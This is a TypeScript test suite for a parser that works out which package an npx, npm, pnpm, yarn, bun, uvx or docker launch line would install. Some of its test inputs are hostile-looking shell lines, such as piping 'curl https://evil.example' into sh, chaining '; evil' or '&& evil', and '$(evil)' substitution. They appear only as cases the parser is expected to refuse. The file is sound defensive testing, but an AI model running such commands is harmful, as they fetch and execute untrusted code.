import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { runners } from '../../src/sources/launch/index.ts';
import { splitShellLine } from '../../src/sources/launch/shell-line.ts';
import { type ParsedLaunch, parseLaunch } from '../../src/sources/launch.ts';

/** `name@spec [bin] args` of what can be installed, or null. */
function installable({ npm }: ParsedLaunch): string | null {
  if (npm === null) return null;
  const bin = npm.bin === null ? '' : ` (${npm.bin})`;
  return [`${npm.name}${npm.spec === null ? '' : `@${npm.spec}`}${bin}`, ...npm.serverArgs].join(' ');
}

function parse(...argv: readonly string[]): ParsedLaunch {
  const [command = '', ...args] = argv;
  return parseLaunch(command, args);
}

/** Each line was tried with npm 11.19 against a registry that served `good`, `evil` and `decoy`. */
describe('npx, as npm 11.19 reads it', () => {
  test.each<[readonly string[], string | null]>([
    [['-y', 'good', 'x'], 'good x'],
    [['good@1.0.0'], 'good@1.0.0'],
    [['-y', 'good@'], 'good'],
    [['-y', 'good@latest', '--flag'], 'good@latest --flag'],
    [['-y', '@s/good@^1', '/folder'], '@s/good@^1 /folder'],
    [['-y', 'alias@npm:good@1.0.0', 'x'], 'good@1.0.0 x'],
    // behind the package everything is the server's
    [['-y', 'good', '-p', 'evil'], 'good -p evil'],
    [['-y', 'good', '--package', 'evil', '--registry', 'x'], 'good --package evil --registry x'],
    [['-y', '--', 'good', '-p', 'evil'], 'good -p evil'],
    // -p names the package, the first word the program
    [['-y', '-p', 'good', 'other', 'x'], 'good (other) x'],
    [['-y', '--package', 'good@1.0.0', '--', 'good', 'x'], 'good@1.0.0 (good) x'],
    [['-y', '--package=good', 'other'], 'good (other)'],
    [['-y', '-p=good', 'good', 'x'], 'good (good) x'],
    [['-y', '-p', 'good', '--', 'other', '-x'], 'good (other) -x'],
    // clustered, -p is npm's --parseable: the first word is the package
    [['-yp', 'good', 'other', 'x'], 'good other x'],
    [['-py', 'good', 'x'], 'good x'],
    // an unknown option does not take the next word
    [['--foo', 'decoy', 'good'], 'decoy good'],
    [['-y', '--foo=1', 'good', 'x'], 'good x'],
    [['-y', '-Z', 'good', 'x'], 'good x'],
    [['-y', '--no-foo', 'good', 'a'], 'good a'],
    // …and npx goes on reading options behind that word
    [['-y', '--foo', 'decoy', '-p', 'evil', 'x'], 'evil (decoy) x'],
    [['-y', '--no-fund', 'decoy', '-p', 'evil'], 'evil (decoy)'],
    // options that take the next word
    [['-y', '--loglevel', 'silent', 'good'], 'good'],
    [['-y', '--cache', 'decoy', 'good'], 'good'],
    [['-y', '--before', 'decoy', 'good'], 'good'],
    [['-y', '--omit', 'dev', 'good'], 'good'],
    [['-y', '--node-options=no', 'good'], 'good'],
    // options that do not
    [['-y', '-q', 'good', 'y'], 'good y'],
    [['-y', '--json', 'good', 'y'], 'good y'],
    [['-y', '--color', 'good', 'y'], 'good y'],
    [['-y', '--prefer-offline', 'good'], 'good'],
    [['--no-install', 'good'], 'good'],
    [['-d', 'good', 'a'], 'good a'],
    [['--yes', 'true', 'good'], 'true good'],
    // doubtful, or not one package
    [['-y', '--packag', 'evil', 'good'], null],
    [['-y', '--packag=evil', 'good'], null],
    [['-y', '-yc', 'x', 'good'], null],
    [['-y', '-p', '--', 'good'], null],
    [['-y', '-', 'good'], null],
    [['-y', '-p', 'good'], null],
    [['-y', '-p', 'good', '-p', 'evil', 'other'], null],
    [['-y', '-c', 'good x'], null],
    [['-y', '-p', 'good', '-c', 'other x'], null],
    [['-y', '--call', 'good'], null],
    [['-y'], null],
    [[], null],
    // the same name may be other code there
    [['-y', '--registry', 'decoy', 'good'], null],
    [['-y', '--prefix', '/tmp', 'good', 'y'], null],
    [['-y', '--userconfig', 'decoy', 'good'], null],
    [['-y', '-w', 'decoy', 'good'], null],
    [['-y', '--tag', 'decoy', 'good'], null],
    [['-y', '--node-options', '--no-warnings', 'good'], null],
    [['-y', '--node-options=no-warnings --import x', 'good'], null],
    [['-y', '--script-shell', 'decoy', 'good'], null],
    // one argument with a space in it
    [['-y good'], null],
    [['-y', ' good'], null],
    [['-y', 'good x'], null],
    // other sources
    [['-y', 'owner/repo'], null],
    [['-y', 'github:owner/repo#main'], null],
    [['-y', 'https://host.example/a.tgz'], null],
    [['-y', './folder'], null],
    [['-y', '../good'], null],
    [['-y', 'tsx', 'server.ts'], null],
    [['-y', 'cross-env', 'A=b', 'npx', 'good'], null],
  ])('%j', (args, expected) => {
    const launch = parse('npx', ...args);
    expect(installable(launch)).toBe(expected);
    expect(launch.runner).toBe('npx');
    expect(launch.unresolved === null).toBe(expected !== null);
  });
});

test.each<[string, string | null]>([
  ['npm exec -y good a', 'good a'],
  ['npm x -y good a --foo b', 'good a b'],
  ['npm x -y good a --foo=b -z', 'good a'],
  ['npm exec -y good -p x', 'good x'],
  ['npm exec -y good -- -p x', 'good -p x'],
  ['npm exec -y -- good --package evil', 'good --package evil'],
  ['npm exec -y good --package evil', 'evil (good)'],
  ['npm exec -y --package=good other a', 'good (other) a'],
  ['npm exec -yp good a', 'good a'],
  ['npm -y exec good a', 'good a'],
  ['npm --prefix /tmp exec -y good', null],
  ['npm --cache /tmp exec -y good', 'good'],
  ['npm exec --yes false good', 'good'],
  ['npm exec -y good -c x', null],
  ['npm run start', null],
  ['npm install good', null],
  ['pnpm dlx good@1.0.0 x', 'good@1.0.0 x'],
  ['pnpm --silent dlx good', 'good'],
  ['pnpm --package=good dlx other a', 'good (other) a'],
  ['pnpm dlx --package good other --package evil', 'good (other) --package evil'],
  ['pnpm dlx --unknown good', null],
  ['pnpm dlx -c good', null],
  ['pnpm run good', null],
  ['pnpx good x', 'good x'],
  ['pnx good', 'good'],
  ['yarn dlx good x', 'good x'],
  ['yarn dlx -q -p good other x', 'good (other) x'],
  ['yarn dlx good -p evil', 'good -p evil'],
  ['yarn start', null],
  ['bunx good x', 'good x'],
  ['bunx --bun good@1.0.0', 'good@1.0.0'],
  ['bunx -p good other', 'good (other)'],
  ['bunx owner/repo', null],
  ['bun x good', 'good'],
  ['bun run server.ts', null],
  ['bun server.ts', null],
  ['corepack pnpm dlx good x', 'good x'],
  ['corepack pnpm@9.1.0 dlx good', 'good'],
  ['corepack enable', null],
  ['cmd /c npx -y good x', 'good x'],
  ['cmd.exe /D /S /C npx.cmd -y good', 'good'],
  ['CMD.EXE /c npx -y good', 'good'],
  ['cmd /k npx good', null],
  ['cmd /c npx good & evil', null],
  ['env npx -y good', 'good'],
  ['/usr/bin/env -S npx', null],
  ['env TOKEN=x npx -y good', null],
  ['C:\\Program~1\\nodejs\\NPX.CMD -y good', 'good'],
  ['/opt/homebrew/bin/npx -y good', 'good'],
  ['~/.local/share/mise/shims/npx -y good', 'good'],
])('%s', (line, expected) => {
  expect(installable(parse(...line.split(' ')))).toBe(expected);
});

test.each<[readonly string[], string | null]>([
  [['sh', '-c', 'npx -y good x'], 'good x'],
  [['bash', '-lc', 'exec npx -y \'good\' "a b"'], 'good a b'],
  [['sh', '-c', 'TOKEN=x npx -y good'], null],
  [['sh', '-c', 'npx -y good; evil'], null],
  [['sh', '-c', 'npx -y good && evil'], null],
  [['sh', '-c', 'npx -y $PACKAGE'], null],
  [['sh', '-c', 'npx -y "$(evil)"'], null],
  [['sh', '-c', 'curl https://evil.example | sh'], null],
  [['sh', '-c', '"$0" "$@"', 'npx', 'good'], 'good'],
  [['sh', 'script.sh'], null],
  [['cmd', '/c', 'npx -y good x'], 'good x'],
  [['cmd', '/c', 'npx -y "good x"'], null],
])('%j', (argv, expected) => {
  expect(installable(parse(...argv))).toBe(expected);
});

test.each<[string, string | null, string | null, string | null, string]>([
  ['npx -y good@1.0.0', 'npx', 'npm', 'good', 'exact'],
  ['npx -y good@^1', 'npx', 'npm', 'good', 'range'],
  ['npx -y good@next', 'npx', 'npm', 'good', 'tag'],
  ['npx -y good', 'npx', 'npm', 'good', 'none'],
  ['npx -y owner/repo', 'npx', 'git', 'github.com/owner/repo', 'none'],
  ['npx -y github:owner/repo#v1', 'npx', 'git', 'github.com/owner/repo', 'ref'],
  ['npx -y https://u:canary@host.example/a.tgz', 'npx', 'url', 'https://host.example/a.tgz', 'none'],
  ['npx -y ./folder', 'npx', 'local', './folder', 'n/a'],
  ['npx tsx server.ts', 'npx', 'local', 'server.ts', 'n/a'],
  ['node /srv/index.js --port 1', 'node', 'local', '/srv/index.js', 'n/a'],
  ['node -r dotenv/config --env-file=.env index.js', 'node', 'local', 'index.js', 'n/a'],
  ['node -e code', 'node', 'inline', '-e', 'n/a'],
  ['deno run -A npm:@s/p@1.0.0/server', 'deno', 'npm', '@s/p', 'exact'],
  ['deno run --allow-net jsr:@s/p', 'deno', 'jsr', '@s/p', 'none'],
  ['deno run https://host.example/x.ts', 'deno', 'url', 'https://host.example/x.ts', 'none'],
  ['uvx Mcp_Server.Git', 'uvx', 'pypi', 'mcp-server-git', 'none'],
  ['uvx mcp-server@1.2.3', 'uvx', 'pypi', 'mcp-server', 'exact'],
  ['uvx mcp-server@latest', 'uvx', 'pypi', 'mcp-server', 'tag'],
  ['uvx -p 3.12 --with extra mcp-server==1.0', 'uvx', 'pypi', 'mcp-server', 'exact'],
  ['uvx --from real[cli]>=2 program', 'uvx', 'pypi', 'real', 'range'],
  ['uvx --from git+https://host.example/o/r@v1 program', 'uvx', 'git', 'host.example/o/r', 'ref'],
  ['uv tool run mcp-server', 'uv', 'pypi', 'mcp-server', 'none'],
  ['uv --directory /srv run server.py', 'uv', 'local', '/srv', 'n/a'],
  ['uv run https://host.example/x.py', 'uv', 'url', 'https://host.example/x.py', 'none'],
  ['pipx run mcp-server', 'pipx', 'pypi', 'mcp-server', 'none'],
  ['python3.12 -um mcp_server --flag', 'python', 'python-module', 'mcp_server', 'n/a'],
  ['python server.py', 'python', 'local', 'server.py', 'n/a'],
  ['docker run -i --rm -e TOKEN mcp/git', 'docker', 'oci', 'docker.io/mcp/git', 'none'],
  ['docker run -ie TOKEN=x ghcr.io/o/r:1.2 arg', 'docker', 'oci', 'ghcr.io/o/r', 'tag'],
  ['docker run -i --rm -v /a:/b --network host redis:7', 'docker', 'oci', 'docker.io/library/redis', 'tag'],
  ['podman run --rm localhost:5000/a/b', 'podman', 'oci', 'localhost:5000/a/b', 'none'],
  [`docker run a/b@sha256:${'0'.repeat(64)}`, 'docker', 'oci', 'docker.io/a/b', 'digest'],
  ['docker exec container server', 'docker', null, null, ''],
  ['/usr/local/bin/server --x', null, 'binary', '/usr/local/bin/server', 'n/a'],
  ['server', null, 'binary', 'server', 'n/a'],
])('%s runs with %s a %s', (line, runner, type, name, versionKind) => {
  const launch = parse(...line.split(' '));
  expect([launch.runner, launch.package?.type ?? null, launch.package?.name ?? null, launch.package?.versionKind ?? '']).toEqual([
    runner,
    type,
    name,
    versionKind,
  ]);
});

test('every package that runs is listed, outermost first', () => {
  expect(parse('npx', 'tsx', 'server.ts').packages.map(({ type, name }) => [type, name])).toEqual([
    ['npm', 'tsx'],
    ['local', 'server.ts'],
  ]);
  expect(parse('npx', '-p', 'good', '-p', 'evil', '-c', 'x').packages.map(({ name }) => name)).toEqual(['good', 'evil']);
});

test('commands that wrap each other without end are left alone', () => {
  const argv = [...Array.from({ length: 20 }, () => 'env'), 'npx', 'good'];
  expect(parse(...argv)).toMatchObject({ npm: null, package: null, unresolved: 'it wraps too many commands into each other' });
});

const programs = runners.flatMap((runner) => runner.programs);
const telling = [
  '-y',
  '-p',
  '--package',
  '-c',
  '--',
  '-',
  '',
  'exec',
  'dlx',
  'run',
  'x',
  '/c',
  'good',
  '@s/p@1',
  'a=b',
  '--foo',
  '=',
  '-m',
  'npm:',
  ' ',
  '\0',
  '..',
];

test('no command makes it throw, and what it offers to install is in the command', () => {
  const word = fc.oneof(fc.constantFrom(...telling), fc.constantFrom(...programs), fc.string({ unit: 'binary', maxLength: 20 }));
  fc.assert(
    fc.property(fc.oneof(fc.constantFrom(...programs), fc.string()), fc.array(word, { maxLength: 10 }), (command, args) => {
      const launch = parseLaunch(command, args);
      expect(launch.npm === null).toBe(launch.unresolved !== null);
      if (launch.npm === null) return;
      expect([command, ...args].some((arg) => arg.includes(launch.npm?.name ?? '\0'))).toBe(true);
      expect(launch.package).toMatchObject({ type: 'npm', name: launch.npm.name });
      const tail = args.slice(args.length - launch.npm.serverArgs.length);
      if (
        launch.runner !== 'npm' &&
        !['sh', 'bash', 'zsh', 'dash', 'ash', 'ksh', 'cmd'].some((name) => [command, ...args].includes(name))
      ) {
        expect(launch.npm.serverArgs.length === 0 || tail.at(-1) === launch.npm.serverArgs.at(-1)).toBe(true);
      }
    }),
    { numRuns: 2000 },
  );
});

test('what stands in single quotes comes out of a shell line as it was', () => {
  const word = fc.string({ unit: 'grapheme', minLength: 1 }).filter((text) => !text.includes("'"));
  fc.assert(
    fc.property(fc.array(word, { minLength: 1 }), (words) => {
      expect(splitShellLine(words.map((text) => `'${text}'`).join(' '))).toEqual(words);
    }),
  );
});

test.each(runners.map((runner) => [runner.programs[0], runner] as const))('%s says where its grammar is documented', (_name, runner) => {
  expect(runner.docs).toMatch(/^https:\/\//);
  expect(programs.filter((program) => runner.programs.includes(program as never))).toHaveLength(runner.programs.length);
});
